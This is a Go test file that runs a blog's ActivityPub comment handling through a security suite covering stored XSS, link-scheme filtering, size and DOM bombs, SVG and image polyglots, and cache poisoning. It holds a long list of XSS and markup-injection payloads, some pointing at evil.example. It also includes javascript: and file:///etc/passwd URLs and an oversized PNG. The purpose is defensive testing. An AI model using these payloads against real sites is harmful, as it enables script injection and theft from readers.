package inbox_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/postil-blog/postil/activitypub"
	"github.com/postil-blog/postil/activitypub/signature"
	"github.com/postil-blog/postil/site"
	"github.com/postil-blog/postil/store"
)

// pageAttacks are about what readers and the owner get to see.
var pageAttacks = []attack{
	{29, "stored XSS", "Mastodon CVE-2023-36459, Hollo CVE-2025-53941, Discourse CVE-2026-59830", attackMarkup},
	{30, "transform after sanitising", "WordPress CVE-2026-93485", attackStable},
	{31, "bad schemes in links", "Mastodon CVE-2023-36462", attackLinks},
	{32, "DOM and size bombs", "Mastodon CVE-2026-23962", attackSize},
	{33, "SVG and images", "Ghost CVE-2026-105644, CVE-2026-105651", attackPictures},
	{34, "cache poisoning", "Ghost CVE-2026-53943", attackCache},
	{35, "moderation page", "Ghost CVE-2026-24778", attackModeration},
	{37, "draft by content negotiation", "WordPress plugin CVE-2026-4338", attackDraft},
	{38, "left in the outbox", "WordPress plugin", attackOutbox},
	{39, "follower list", "WordPress plugin #3390, WriteFreely", attackFollowers},
}

// payloads run, or break out of where they stand, for who is careless.
var payloads = []string{
	`<script>alert(1)</script>`, `<ScRiPt/src=//evil.example/x></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
	`<object data=//evil.example></object>`, `<embed src=//evil.example>`, `<form action=//evil.example><input name=a><button>go</button></form>`, `<textarea>`, `<title>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<p style="position:fixed;top:0">x</p>`, `<p id=comments class="btn" onclick=alert(1)>x</p>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" java&#9;script:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`, `<a href="http://blog.example@evil.example">x</a>`, `<a href='x' onmouseover='alert(1)'>x</a>`,
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `</article></li></ol></section><h1>owned</h1>`, `</textarea><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1?><script>alert(1)</script>`, `<template><script>alert(1)</script></template>`, `<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`, `<html onclick=alert(1)>`, `<img src="https://evil.example/track.gif">`,
	`<blockquote cite="x" onclick="` + "\n" + `alert(1)">x</blockquote>`, `<p/onclick=alert(1)//>`, `<x onclick=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
	`{{constructor.constructor('alert(1)')()}}`, `<!--comments:one-->`, `<!--/comments-->`, `<a href="https://evil.example/" target=_top ping=//evil.example rel=opener download>x</a>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
	`:blob:"><script>alert(1)</script>:`, `javascript:alert(1)`, `data:image/svg+xml,<svg onload=alert(1)>`, `https://evil.example/"onload="alert(1)`, `<select><option><script>alert(1)</script></select>`, `<frameset><frame src=javascript:alert(1)>`,
}

const template = `<!doctype html><html><body><main><p id="before">post</p><section id="comments"><!--comments:one--><p>baked</p><!--/comments--></section><p id="after">end</p></main></body></html>`

// full is a reply with a payload wherever words may stand.
func full(id, by, payload string) m {
	language := m{"en": payload, payload: payload}
	return note(id, by, post, m{
		"content": "<p>" + payload + "</p>", "contentMap": language, "summary": payload, "summaryMap": language, "name": payload, "nameMap": language, "language": payload, "mediaType": nil,
		"url":        []any{payload, m{"type": "Link", "href": payload, "mediaType": "text/html"}},
		"tag":        []any{m{"type": "Mention", "name": payload, "href": payload}, m{"type": "Hashtag", "name": payload, "href": payload}, m{"type": "Emoji", "name": payload, "icon": m{"url": payload}}, m{"type": "Emoji", "name": ":blob:", "icon": m{"url": "http://remote.example/" + payload}}},
		"attachment": []any{m{"type": "Image", "url": payload, "name": payload, "mediaType": "image/png", "blurhash": payload}, m{"type": "Document", "url": "http://remote.example/" + payload, "name": payload, "mediaType": payload}, m{"type": "Link", "href": payload}},
		"source":     m{"content": payload, "mediaType": payload}, "sensitive": true,
	})
}

func attackMarkup(t *testing.T, s signature.Scheme) {
	w := newWorld(t, func(c *site.Config) { c.Comments.Mode = "open" })
	w.file("posts/one/index.html", template)
	for n, payload := range payloads {
		by := fmt.Sprintf("http://remote.example/users/x%d", n)
		w.peers.serve(by, actor(by, m{"name": payload, "summary": payload, "preferredUsername": payload, "url": payload, "icon": m{"type": "Image", "url": payload},
			"tag": []any{m{"type": "Emoji", "name": payload, "icon": m{"url": payload}}}, "webfinger": payload}))
		for _, doc := range []m{create(full(by+"/n", by, payload)), activity("Like", by+"/l", by, post, m{"content": payload, "_misskey_reaction": payload}), activity("Announce", by+"/b", by, post, m{"to": public})} {
			if got := w.post(letter{doc: doc, signer: by, scheme: s}); got != 202 && got != 400 {
				t.Errorf("%q: %s: status %d", payload, doc["type"], got)
			}
		}
	}
	if n := w.count(store.Reply); n < len(payloads)*9/10 {
		t.Fatalf("%d of %d replies are there: the page shows nothing", n, len(payloads))
	}
	page := readBody(w.get("/posts/one/"))
	harmless(t, page, nil)
	if strings.Count(page, "<article") < len(payloads)*9/10 {
		t.Errorf("%d comments on the page", strings.Count(page, "<article"))
	}
	for _, path := range []string{"/comments/one", "/interact?do=reply&to=" + url.QueryEscape(post)} {
		harmless(t, readBody(w.get(path)), []string{"form", "input", "button", "link", "meta", "title", "script"})
	}
	res := w.get("/api/v1/thread?post=" + url.QueryEscape(post))
	if kind := res.Header.Get("Content-Type"); !strings.HasPrefix(kind, "application/") || res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the thread is served as %q", kind)
	}
}

// harmless parses a page as a browser does and wants nothing in it that runs, loads from elsewhere, or stands where it should not.
func harmless(t *testing.T, page string, allowed []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	bad := strings.Fields("script style iframe frame frameset object embed svg math link meta base template noscript form input textarea select button video audio source marquee title")
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains(bad, n.Data) && !slices.Contains(allowed, n.Data) {
			t.Errorf("<%s> on the page", n.Data)
		}
		for _, a := range n.Attr {
			harmlessAttribute(t, n.Data, a)
		}
		if n.Data == "p" && slices.Contains(n.Attr, html.Attribute{Key: "id", Val: "after"}) && (n.Parent.Data != "main" || n.PrevSibling == nil || n.PrevSibling.Data != "section") {
			t.Errorf("what comes after the comments stands in <%s>: one of them broke out", n.Parent.Data)
		}
	}
}

func harmlessAttribute(t *testing.T, element string, a html.Attribute) {
	t.Helper()
	if strings.HasPrefix(a.Key, "on") || slices.Contains(strings.Fields("style srcdoc formaction ping target download"), a.Key) {
		t.Errorf("<%s %s=%q>", element, a.Key, a.Val)
	}
	u, err := url.Parse(a.Val)
	switch a.Key {
	case "href", "action", "cite":
		if err != nil || u.User != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" || strings.HasPrefix(a.Val, "//") {
			t.Errorf("<%s %s=%q>", element, a.Key, a.Val)
		}
	case "src", "srcset", "poster", "data":
		if err != nil || u.Host != "" && u.Host != "blog.example" || u.Scheme == "data" || u.Scheme == "javascript" {
			t.Errorf("<%s %s=%q> loads from elsewhere", element, a.Key, a.Val)
		}
	}
}

// attackStable: what stands on the page is what the one writer made of the stored tree, and reading it again changes nothing.
func attackStable(t *testing.T, s signature.Scheme) {
	w := newWorld(t, func(c *site.Config) { c.Comments.Mode = "open" })
	w.file("posts/one/index.html", template)
	for n, payload := range payloads {
		id := fmt.Sprint(aliceID, "/n", n)
		w.post(letter{doc: create(note(id, aliceID, post, m{"content": payload + "<p>x" + payload + "</p>"})), signer: aliceID, scheme: s})
		c, ok := w.comment(id)
		if !ok {
			continue
		}
		var tree activitypub.Tree
		if err := json.Unmarshal(c.Content, &tree); err != nil {
			t.Fatal(err)
		}
		once := string(tree.HTML())
		if twice := string(activitypub.ParseHTML(once, nil).HTML()); twice != once {
			t.Errorf("%q is written as\n%s\nand that as\n%s", payload, once, twice)
		}
		if !strings.Contains(readBody(w.get("/posts/one/")), once) {
			t.Errorf("%q: the page does not hold what the tree says: %s", payload, once)
		}
	}
}

func attackLinks(t *testing.T, s signature.Scheme) {
	w := newWorld(t, func(c *site.Config) { c.Comments.Mode = "open" })
	w.file("posts/one/index.html", template)
	var content strings.Builder
	for _, href := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:x", " javascript:x", "\x01javascript:x", "&#106;avascript:x", "javascript&colon;x", "vbscript:x", "data:text/html,x",
		"blob:x", "file:///etc/passwd", "//evil.example/", `\\evil.example`, "http://blog.example@evil.example/", "https://user:pw@evil.example/", "http:evil", "https://", "ftp://x", "tel:1", "mailto:a@b", "intent://x", "http://e\u202evil.example/", "https://evil.example/\u202egnp.exe",
	} {
		fmt.Fprintf(&content, `<p><a href="%s" rel="opener" target="_top" class="btn u-url h-card">blog.example</a></p>`, href)
	}
	content.WriteString("<p>\u202etxt.exe\u2066 fine</p><a href='https://honest.example/'>honest</a>")
	if got := w.post(letter{doc: create(note(aliceID+"/n", aliceID, post, m{"content": content.String()})), signer: aliceID, scheme: s}); got != 202 {
		t.Fatalf("status %d", got)
	}
	page := readBody(w.get("/posts/one/"))
	harmless(t, page, nil)
	if strings.ContainsAny(page, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
		t.Error("the page turns the direction of words round")
	}
	root, _ := html.Parse(strings.NewReader(page))
	honest := false
	for n := range root.Descendants() {
		if n.Data != "a" || n.Type != html.ElementNode {
			continue
		}
		at := map[string]string{}
		for _, a := range n.Attr {
			at[a.Key] = a.Val
		}
		u, _ := url.Parse(at["href"])
		if u == nil || u.Host == "" || u.Host == "blog.example" {
			continue
		}
		honest = honest || at["href"] == "https://honest.example/"
		for _, word := range strings.Fields("nofollow ugc noopener noreferrer") {
			if !slices.Contains(strings.Fields(at["rel"]), word) {
				t.Errorf("a link to %s has rel=%q", at["href"], at["rel"])
			}
		}
	}
	if !honest {
		t.Error("the honest link is gone")
	}
}

func attackSize(t *testing.T, s signature.Scheme) {
	w := newWorld(t, func(c *site.Config) { c.Comments.Mode = "open" })
	many := func(n int, one any) []any { return slices.Repeat([]any{one}, n) }
	mention := m{"type": "Mention", "href": "http://x.example/", "name": "@x"}
	for name, with := range map[string]m{
		"nested tags": {"content": strings.Repeat("<blockquote>", 50_000) + "x"}, "siblings": {"content": strings.Repeat("<b>x</b>", 50_000)}, "entities": {"content": strings.Repeat("&amp;", 100_000)},
		"a name": {"content": "x", "name": strings.Repeat("n", 900_000)}, "a warning": {"content": "x", "summary": strings.Repeat("w", 900_000)}, "mentions": {"content": "x", "tag": many(2_400, mention)},
		"too many mentions": {"content": "x", "tag": many(5_000, mention)}, "attachments": {"content": "x", "attachment": many(2_000, m{"type": "Image", "url": "http://x.example/1.png", "name": strings.Repeat("a", 100)})},
		"languages": {"content": nil, "contentMap": languages(3_000)}, "an alt text": {"content": "x", "attachment": m{"type": "Image", "url": "http://x.example/1.png", "name": strings.Repeat("a", 800_000)}},
		"an address": {"content": "x", "url": "http://x.example/" + strings.Repeat("u", 800_000)}, "a source": {"content": "x", "source": m{"content": strings.Repeat("s", 800_000)}},
		"links": {"content": strings.Repeat(`<a href="https://x.example/`+strings.Repeat("u", 1900)+`">x</a>`, 400)},
	} {
		id := aliceID + "/" + strings.ReplaceAll(name, " ", "-")
		got := w.post(letter{doc: create(note(id, aliceID, post, with)), signer: aliceID, scheme: s})
		c, stored := w.comment(id)
		if stored != (got == 202) || got != 202 && (got < 400 || got > 499) {
			t.Errorf("%s: status %d, stored %v", name, got, stored)
		}
		var tree activitypub.Tree
		if stored && json.Unmarshal(c.Content, &tree) != nil {
			t.Fatalf("%s: %s", name, c.Content)
		}
		nodes, depth := measure(tree)
		var attachments []any
		json.Unmarshal(c.Attachments, &attachments)
		if nodes > 501 || depth > 17 || len(tree.Text()) > 11<<10 || len(c.Warning) > 11<<10 || len(attachments) > 16 || len(c.Source) > 64<<10 || len(c.URL) > 2048 {
			t.Errorf("%s: %d nodes, %d levels, %d bytes of text, %d of warning, %d attachments, %d of source", name, nodes, depth, len(tree.Text()), len(c.Warning), len(attachments), len(c.Source))
		}
	}
	big := "http://remote.example/users/big"
	w.peers.serve(big, actor(big, m{"name": strings.Repeat("n", 900_000), "preferredUsername": strings.Repeat("u", 10_000), "attachment": many(2_000, m{"type": "PropertyValue", "name": "a", "value": "b"})}))
	w.post(letter{doc: activity("Like", big+"/l", big, post, nil), signer: big, scheme: s})
	if a, err := w.store.Actor(t.Context(), big); err != nil || len(a.Name) > 64<<10 || len(a.Handle) > 1024 {
		t.Errorf("an actor with a long name: %v, %d bytes of name, %d of handle", err, len(a.Name), len(a.Handle))
	}
}

func languages(n int) m {
	list := m{}
	for k := range n {
		list[fmt.Sprint("x-", k)] = strings.Repeat("w", 100)
	}
	return list
}

func measure(t activitypub.Tree) (nodes, depth int) {
	for _, n := range t {
		inner, below := measure(n.Children)
		if n.Tag != "" {
			inner, below = inner+1, below+1
		}
		nodes, depth = nodes+inner, max(depth, below)
	}
	return nodes, depth
}

func attackPictures(t *testing.T, s signature.Scheme) {
	w := newWorld(t, func(c *site.Config) { c.Comments.Mode = "open" })
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`
	bomb := picture(8, 8, "png")
	copy(bomb[16:], []byte{0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff}) // says to be 65,535 pixels wide and high
	polyglot := append(picture(40, 40, "gif"), "<script>alert(1)</script>"...)
	served := map[string][]byte{"svg": []byte(svg), "svg-behind-xml": []byte(`<?xml version="1.0"?>` + svg), "html": []byte("<script>alert(1)</script>"), "bomb": bomb, "pdf": []byte("%PDF-1.7 x"), "nothing": nil, "polyglot": polyglot}
	for name, data := range served {
		at := "http://remote.example/" + name
		w.peers.handle(at, func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("Content-Type", "image/png")
			rw.Write(data)
		})
		w.post(letter{doc: create(note(aliceID+"/"+name, aliceID, post, m{"attachment": m{"type": "Image", "mediaType": "image/svg+xml", "url": at}})), signer: aliceID, scheme: s})
		res := w.get("/media/" + store.MediaHash(at))
		var b bytes.Buffer
		b.ReadFrom(res.Body)
		if want := map[bool]int{true: 200, false: 404}[name == "polyglot"]; res.StatusCode != want || bytes.Contains(b.Bytes(), []byte("script")) || strings.Contains(res.Header.Get("Content-Type"), "svg") {
			t.Errorf("%s: status %d, want %d, %s with %d bytes", name, res.StatusCode, want, res.Header.Get("Content-Type"), b.Len())
		}
	}
	if got := w.get("/media/" + store.MediaHash("http://evil.example/x")).StatusCode; got != 404 || w.peers.asked("http://evil.example/x") != 0 {
		t.Errorf("a picture that no page shows: status %d after %d fetches", got, w.peers.asked("http://evil.example/x"))
	}
}

// attackCache: whatever odd headers come with a GET, the answer is the same, so that no cache can be made to keep something else.
func attackCache(t *testing.T, s signature.Scheme) {
	w := aliceWasHere(t)
	w.file("posts/one/index.html", template)
	odd := strings.Fields("X-Forwarded-Host X-Forwarded-Proto X-Forwarded-Port X-Forwarded-Prefix X-Forwarded-Server X-Forwarded-Scheme X-Original-URL X-Rewrite-URL X-Original-Host X-Host X-HTTP-Host-Override " +
		"X-HTTP-Method-Override X-HTTP-Method X-Method-Override Forwarded Via X-Forwarded-For X-Real-IP CF-Connecting-IP True-Client-IP Accept-Language Accept-Charset User-Agent Referer Origin Cookie Authorization " +
		"X-Requested-With Content-Type X-Wap-Profile Purpose Sec-Purpose DNT Save-Data Early-Data Proxy Proxy-Host Base-Url Destination Signature Signature-Input Digest Date From Max-Forwards TE Trailer X-Amz-Website-Redirect-Location")
	if len(odd) < 40 {
		t.Fatalf("%d headers", len(odd))
	}
	for _, path := range []string{"/posts/one/", "/ap/actor", "/ap/posts/one", "/ap/posts/one/replies", "/ap/outbox", "/ap/followers", "/api/v1/thread?post=" + url.QueryEscape(post), "/.well-known/webfinger?resource=acct:blog@blog.example", "/nodeinfo/2.1", "/nothing"} {
		plain := w.get(path)
		want := readBody(w.get(path))
		for _, name := range odd {
			const word = "canary.example"
			r, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, blog+path, nil)
			r.Header.Set(name, word)
			res, err := w.client.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			b.ReadFrom(res.Body)
			res.Body.Close()
			if b.String() != want || res.StatusCode != plain.StatusCode || strings.Contains(fmt.Sprint(res.Header), word) || res.Header.Get("Set-Cookie") != "" {
				t.Errorf("%s with %s: status %d, %v, another answer: %v", path, name, res.StatusCode, res.Header, b.String() != want)
			}
		}
	}
}
